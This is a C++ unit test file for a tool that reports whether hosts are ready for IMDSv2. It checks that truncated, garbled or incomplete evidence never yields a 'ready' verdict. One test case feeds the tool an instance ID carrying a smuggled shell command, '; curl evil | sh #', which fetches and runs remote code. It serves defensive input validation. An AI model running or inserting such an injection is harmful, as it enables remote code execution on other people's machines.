// SPDX-License-Identifier: Apache-2.0
//
// Could it ever say *ready*? Evidence that is not ready is cut, thinned and
// garbled in every way that an accident or another version may, and whatever
// comes of it must not be ready. What is unknown is never a zero.
#include "input_files.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

namespace imds::report {
namespace {

using namespace samples;
using nlohmann::json;

/// Evidence with one caller and one place in source that would break, in the
/// order in which the programs write.
std::vector<std::string> not_ready() {
  return {sighting(R"({"class":"v1_ok","count":3})"),
          survey(R"({"requests":3,"attributed":3})"),
          scan(R"({"findings":1,"code_files":9,"ledger":{"finding":1}})"),
          finding(R"({"verdict":"v1","under_required":"breaks"})")};
}

std::vector<std::string> clean() {
  return {sighting(), survey(R"({"requests":3,"attributed":3})"),
          scan(R"({"findings":1,"code_files":9})"), finding()};
}

TEST(NeverReady, TheSamplesAreWhatTheySay) {
  EXPECT_EQ(judged(not_ready()).verdict, Verdict::not_ready);
  EXPECT_EQ(judged(clean()).verdict, Verdict::ready)
      << as_json(judged(clean()));
}

TEST(NeverReady, CutAtAnyByte) {
  const InputFiles files;
  const std::string whole = lines(not_ready());
  for (std::size_t cut = 0; cut < whole.size(); ++cut) {
    const bool at_line =
        cut > 0 && (whole[cut - 1] == '\n' || whole[cut] == '\n');
    if (!at_line && cut % 7 != 0)
      continue; // inside a line, every seventh byte is enough
    const Report r =
        judged_files({files.write("cut.ndjson", whole.substr(0, cut))});
    ASSERT_NE(r.verdict, Verdict::ready) << "cut at " << cut;
  }
}

TEST(NeverReady, WithoutAnyOneLine) {
  const auto all = not_ready();
  for (std::size_t gone = 0; gone < all.size(); ++gone) {
    auto rest = all;
    rest.erase(rest.begin() + static_cast<std::ptrdiff_t>(gone));
    EXPECT_NE(judged(rest).verdict, Verdict::ready) << all[gone];
  }
}

TEST(NeverReady, WithAnyKeyLostOrGarbled) {
  const auto all = not_ready();
  const json instead[] = {nullptr, "dream",  "",           0, -1, 1e300,
                          false,   json{{}}, json::array()};
  for (std::size_t at = 0; at < all.size(); ++at) {
    const json whole = json::parse(all[at]);
    for (const auto& [key, value] : whole.items()) {
      auto garbled = all;
      json fact = whole;
      fact.erase(key);
      garbled[at] = fact.dump();
      EXPECT_NE(judged(garbled).verdict, Verdict::ready) << "without " << key;
      for (const json& other : instead) {
        fact[key] = other;
        garbled[at] = fact.dump();
        EXPECT_NE(judged(garbled).verdict, Verdict::ready)
            << key << " = " << other;
      }
    }
  }
}

std::string without(const std::string& line, const char* key) {
  json fact = json::parse(line);
  fact.erase(key);
  return fact.dump();
}

TEST(NeverReady, ByAScanThatDoesNotSay) {
  for (const char* key : {"files", "skipped", "unread", "ledger"}) {
    const std::string line = without(scan(), key);
    EXPECT_EQ(judged({survey(), line}).verdict, Verdict::incomplete) << line;
  }
}

/// A line with one of its keys a second time.
std::string with_again(const std::string& line, const char* member) {
  return line.substr(0, line.size() - 1) + "," + member + "}";
}

std::string replaced(std::string text, const std::string& what,
                     const std::string& with) {
  return text.replace(text.find(what), what.size(), with);
}

constexpr const char* kOfNobody = R"({"host":null})";

/// A PUT of one caller failed, and a later one of another worked.
std::vector<std::string> mended_by(const std::string& one,
                                   const std::string& other) {
  return complete({sighting("{\"class\":\"put_failed\"," + one + "}"),
                   sighting(R"({"class":"put_ok",)" + other +
                            R"(,"last":"2026-11-03T00:00:00.000Z"})")});
}

struct Case {
  const char* name;
  const char* rule; // one that must fire
  std::vector<std::string> lines;
};

/// 70 containers of the program that have tokens, and these.
std::vector<std::string> beside_many(std::vector<std::string> lines) {
  for (int i = 10; i < 80; ++i)
    lines.push_back(sighting("{\"container\":\"c" + std::to_string(i) + "\"}"));
  return complete(std::move(lines));
}

const Case kCases[] = {
    {"a fallback by a switch without a default", "missing.switch",
     complete({finding(R"({"verdict":"v1-fallback","under_required":"depends",
        "switch":{"name":"use_token","default":"","effect":"token"}})")})},
    {"a fallback by a switch whose default is null", "missing.switch",
     complete({finding(R"({"verdict":"v1-fallback","under_required":"depends",
        "switch":{"name":"use_token","default":null,"effect":"token"}})")})},
    {"v2 by a switch without a default", "missing.switch",
     complete({finding(R"({"verdict":"v2","under_required":"depends",
        "switch":{"name":"legacy","default":"","effect":"no token"}})")})},
    {"a fallback that depends on nobody knows what", "missing.review",
     complete(
         {finding(R"({"verdict":"v1-fallback","under_required":"depends"})")})},
    {"a fate of a newer version", "missing.review",
     complete(
         {finding(R"({"verdict":"v1-fallback","under_required":"maybe"})")})},
    {"v2 with a fate of a newer version", "missing.review",
     complete({finding(R"({"verdict":"v2","under_required":"maybe"})")})},
    {"v1 with a fate of a newer version", "missing.review",
     complete({finding(R"({"verdict":"v1","under_required":"maybe"})")})},
    {"undecided, but it breaks", "code.breaks",
     complete({finding(R"({"verdict":"review","under_required":"breaks"})")})},
    {"a verdict of a newer version that breaks", "code.breaks",
     complete({finding(R"({"verdict":"v3","under_required":"breaks"})")})},

    {"a tree of other languages",
     "missing.code",
     {survey(), scan(R"({"code_files":0})")}},
    {"a state of a newer version", "missing.unexplained",
     complete({scan(R"({"ledger":{"haunted":1}})")})},
    {"places that nothing explains", "missing.unexplained",
     complete({scan(R"({"unexplained":["a.c:1"]})")})},
    {"no files, and code among them",
     "missing.code",
     {survey(), scan(R"({"files":0,"code_files":5})")}},
    {"a reason to skip that nobody knows", "missing.unread",
     complete({scan(R"({"skipped":{"did not feel like it":1}})")})},
    {"findings that the copy lost", "missing.sum",
     complete({scan(R"({"findings":2})"), finding()})},
    {"findings without their scan", "missing.sum",
     complete({finding(R"({"scan":"s9"})"), scan()})},

    {"a request of no class that no sum counts", "missing.unknown",
     complete({sighting(R"({"class":"unknown"})")})},
    {"a class of a newer version", "missing.input",
     complete({sighting(R"({"class":"v3_ok"})")})},
    {"a request of no process that no sum counts", "missing.owner",
     complete({sighting(R"({"exe":null,"comm":null,"pid":null})")})},
    {"a survey of a kind that nobody knows", "missing.owner",
     complete({survey(R"({"source":"dream","unattributed":1})")})},
    {"a survey that does not say that it heard anything",
     "missing.silent",
     {without(survey(R"({"boot_covered":false})"), "packets"), scan()}},
    {"an end before its start", "missing.time",
     complete({survey(R"({"end":"2026-10-01T00:00:00.000Z"})")})},
    {"captures of nobody knows which hosts", "missing.time",
     complete({sighting(kOfNobody),
               survey(R"({"host":null,"source":"file","requests":3,
                          "end":"2026-11-05T00:00:00.000Z"})"),
               sighting(R"({"host":null,"survey":"u2"})"),
               survey(R"({"host":null,"survey":"u2","source":"file",
                          "requests":3,"start":"2026-11-05T00:00:00.000Z"})")})},
    {"the same, read at once", "missing.time",
     complete({sighting(kOfNobody), sighting(kOfNobody),
               survey(R"({"host":null,"source":"file","requests":3,
                          "end":"2026-11-05T00:00:00.000Z"})"),
               survey(R"({"host":null,"source":"file","requests":3,
                          "start":"2026-11-04T00:00:00.000Z"})")})},
    {"a capture of a host, and not of IMDS", "missing.silent",
     complete({survey(R"({"source":"file"})")})},
    {"a short capture with a request, and a long one without", "missing.time",
     complete({sighting(kOfNobody),
               survey(R"({"host":null,"source":"file","requests":3,
                          "end":"2026-11-01T01:00:00.000Z"})"),
               survey(R"({"host":null,"source":"file"})")})},
    {"one name on two instances", "missing.host_name",
     complete({survey(R"({"instance":"i-0aaaaaaaaaaaaaaaa",
                          "end":"2026-11-08T12:00:00.000Z"})"),
               survey(R"({"instance":"i-0bbbbbbbbbbbbbbbb","survey":"u2",
                          "start":"2026-11-08T13:00:00.000Z"})")})},
    {"an Auto Scaling group whose machines share a name", "missing.host_name",
     complete({survey(R"({"instance":"i-0aaaaaaaaaaaaaaaa"})"),
               survey(R"({"instance":"i-0bbbbbbbbbbbbbbbb","survey":"u2"})"),
               survey(R"({"instance":"i-0cccccccccccccccc","survey":"u3"})")})},
    {"a container that never got a token, beside one that did",
     "traffic.hop_limit",
     complete({sighting(R"({"class":"put_hop_limited","container":"c1"})"),
               sighting(R"({"class":"put_ok","container":"c2",
                            "last":"2026-11-03T00:00:00.000Z"})")})},
    {"a container that failed after its last token", "traffic.put_failed",
     complete({sighting(R"({"class":"put_ok","container":"c1"})"),
               sighting(R"({"class":"put_failed","container":"c1",
                            "last":"2026-11-03T00:00:00.000Z"})"),
               sighting(R"({"class":"put_ok","container":"c2",
                            "last":"2026-11-04T00:00:00.000Z"})")})},
    {"a container that is refused, beside one that has tokens",
     "traffic.rejected",
     complete({sighting(R"({"class":"v1_rejected","container":"c1"})"),
               sighting(R"({"class":"put_ok","container":"c2"})"),
               sighting(R"({"container":"c2"})")})},
    {"a container of which a hop-limited PUT is all that is known",
     "traffic.hop_limit",
     complete(
         {sighting(R"({"class":"put_hop_limited","exe":null,"comm":null})"),
          sighting(R"({"class":"put_ok","exe":null,"comm":null,
                            "last":"2026-11-03T00:00:00.000Z"})")})},
    {"one of two instances of a template unit", "traffic.put_failed",
     complete({sighting(R"({"class":"put_failed","unit":"job@a.service"})"),
               sighting(R"({"class":"put_ok","unit":"job@b.service",
                            "last":"2026-11-03T00:00:00.000Z"})")})},
    {"one of two modules of Python", "traffic.put_failed",
     mended_by(R"("exe":"/usr/bin/python3.11","argv":["python3","-m","a"])",
               R"("exe":"/usr/bin/python3.11","argv":["python3","-m","b"])")},
    {"one of two programs of Java", "traffic.put_failed",
     mended_by(
         R"("exe":"/usr/bin/java","argv":["java","-cp","x","com.acme.A"])",
         R"("exe":"/usr/bin/java","argv":["java","-cp","x","com.acme.B"])")},
    {"a caller that is refused and whose token nobody answered",
     "traffic.rejected",
     complete({sighting(R"({"class":"v1_rejected"})"),
               sighting(R"({"class":"v2_miss","status":null})")})},
    {"a caller that is refused, with a token as well", "traffic.rejected",
     complete({sighting(R"({"class":"v1_rejected"})"),
               sighting(R"({"class":"v2_miss","status":403})")})},
    {"the same, beside more containers than are told apart", "traffic.rejected",
     beside_many({sighting(R"({"class":"v1_rejected","container":"x1"})"),
                  sighting(R"({"container":"x2"})")})},

    {"a sighting of nothing", "missing.input",
     complete({sighting(R"({"class":"v1_ok","count":0})")})},
    {"counts that add up to nothing, in 64 bits",
     "missing.input",
     {sighting(R"({"class":"v1_ok","count":9223372036854775808,"seq":1})"),
      sighting(R"({"class":"v1_ok","count":9223372036854775808,"seq":2})"),
      survey(), scan()}},
    {"counts that add up to nothing, in lines that can be read",
     "missing.input",
     {sighting(R"({"class":"v1_ok","count":9007199254740991})"), survey(),
      scan()}},
    {"a reason to skip that is said twice",
     "missing.input",
     {survey(), replaced(scan(R"({"skipped":{"over budget":2}})"), "2}",
                         R"(2,"over budget":0})")}},
    {"a class that is said twice",
     "missing.input",
     {with_again(sighting(R"({"class":"v1_ok"})"), R"("class":"v2_ok")"),
      survey(), scan()}},
    {"a verdict that is said twice",
     "missing.input",
     {with_again(finding(R"({"verdict":"v1","under_required":"breaks"})"),
                 R"("under_required":"survives")"),
      survey(), scan()}},
    {"two callers with one number",
     "missing.contradiction",
     {sighting(R"({"class":"put_ok"})"),
      sighting(R"({"class":"put_ok","exe":"/usr/bin/b"})"),
      survey(R"({"requests":3})"), scan()}},
    {"a sighting that ends before it starts", "missing.input",
     complete({sighting(R"({"last":"2026-11-01T00:00:00.000Z"})")})},
    {"a line without a number",
     "missing.input",
     {without(sighting(), "seq"), survey(R"({"requests":3})"), scan()}},
    {"a clock that started in 1970", "missing.past",
     complete({survey(R"({"start":"1970-01-01T00:00:09.000Z",
                          "end":"2026-11-01T00:10:00.000Z"})")})},
    {"a scan of no time", "missing.input",
     complete({scan(R"({"end":"last week"})")})},
    {"an old scan beside a new one", "missing.old",
     complete({scan(R"({"end":"2026-11-30T00:00:00.000Z"})"),
               scan(R"({"scan":"s2","end":"2026-04-01T00:00:00.000Z"})")})},
    {"a capture of last year that names no host", "missing.old",
     complete({sighting(kOfNobody),
               survey(R"({"host":null,"source":"file","requests":3,
                          "start":"2025-11-01T00:00:00.000Z",
                          "end":"2025-11-09T00:00:00.000Z"})")})},
    {"a scan of a folder that was empty", "missing.unread",
     complete({scan(), scan(R"({"scan":"s2","root":"typo","files":0})")})},

    {"an instance whose id is a command", "missing.input",
     complete({setting(R"({"instance":"i-0abc; curl evil | sh #"})")})},
    {"settings of nobody", "missing.input",
     complete({without(setting(), "instance")})},
    {"calls that AWS counted nobody knows when", "missing.input",
     complete({setting(R"({"no_token_count":9})")})},
    {"calls that AWS counted in no time", "missing.input",
     complete({setting(R"({"no_token_count":9,"window_start":"then",
                           "window_end":"now"})")})},
    {"an instance that nobody surveyed", "missing.instance",
     complete({setting(R"({"host":"web-1"})"),
               setting(R"({"host":null,"instance":"i-1234567890abcdef0"})")})},
};

bool fires(const Report& r, const std::string& id) {
  for (const auto* list : {&r.blockers, &r.cautions, &r.missing})
    for (const Item& item : *list)
      for (const Rule rule : item.rules)
        if (info(rule).id == id)
          return true;
  return false;
}

TEST(NeverReady, ForWhatIsNotKnown) {
  for (const Case& c : kCases) {
    const Report r = judged(c.lines);
    EXPECT_NE(r.verdict, Verdict::ready) << c.name;
    EXPECT_TRUE(fires(r, c.rule)) << c.name << ": " << r.reason;
  }
}

// Killed before its first packet, tcpdump leaves a file without any time.
TEST(NeverReady, ByACaptureWithoutAPacket) {
  const Report r = judged({survey(R"({"host":null,"source":"file","packets":0,
                                      "start":"1970-01-01T00:00:00.000Z",
                                      "end":"1970-01-01T00:00:00.000Z"})"),
                           scan()});
  EXPECT_EQ(r.verdict, Verdict::incomplete);
  EXPECT_TRUE(fires(r, "missing.silent"));
  EXPECT_FALSE(fires(r, "missing.past")) << "no clock was wrong";
}

TEST(NeverReady, BySettingsAlone) {
  Needs settings = defaults();
  settings.code = settings.traffic = false;
  settings.settings = true;
  const Report r = judged({setting()}, settings);
  EXPECT_EQ(r.verdict, Verdict::incomplete) << r.reason;
}

TEST(NeverReady, ByANeedThatIsMetElsewhere) {
  Needs code = defaults();
  code.traffic = false;
  EXPECT_EQ(judged({survey()}, code).verdict, Verdict::incomplete);
  Needs traffic = defaults();
  traffic.code = false;
  EXPECT_EQ(judged({scan()}, traffic).verdict, Verdict::incomplete);
}

/// No part is ready where something that could concern it is missing.
TEST(NeverReady, NoPartOfAReportThatIsNot) {
  for (const Case& c : kCases) {
    const Report r = judged(c.lines);
    if (r.verdict != Verdict::incomplete)
      continue;
    const bool about_a_finding = r.missing.front().kind == "finding";
    for (const JudgedHost& h : r.hosts)
      EXPECT_NE(h.verdict, Verdict::ready) << c.name << ", host " << h.name;
    for (const Service& s : r.services)
      EXPECT_NE(s.verdict, Verdict::ready) << c.name << ", " << s.name;
    for (const JudgedCaller& caller : r.callers)
      EXPECT_NE(caller.verdict, Verdict::ready) << c.name;
    for (const Component& p : r.components)
      EXPECT_TRUE(p.verdict != Verdict::ready || about_a_finding ||
                  r.missing.front().host_count > 0)
          << c.name << ", " << p.name;
  }
}

TEST(NeverReady, AHostWithAGapBesideOneWithout) {
  const Report r = judged(complete(
      {survey(R"({"dropped":1})"), survey(R"({"host":"web-2","survey":"u2"})"),
       survey(R"({"host":"web-3","survey":"u3","requests":9})")}));
  ASSERT_EQ(r.hosts.size(), 3u);
  EXPECT_EQ(r.hosts[0].verdict, Verdict::incomplete);
  EXPECT_EQ(r.hosts[1].verdict, Verdict::ready);
  EXPECT_EQ(r.hosts[2].verdict, Verdict::incomplete);
}

TEST(NeverReady, AServiceWhoseOwnCodeBreaks) {
  const Report r =
      judged(complete({sighting(R"({"exe":"/usr/bin/rolefetch"})"),
                       finding(R"({"verdict":"v1","under_required":"breaks",
                            "file":"src/rolefetch.cpp"})")}));
  ASSERT_EQ(r.services.size(), 1u);
  EXPECT_EQ(r.services[0].verdict, Verdict::not_ready);
}

} // namespace
} // namespace imds::report
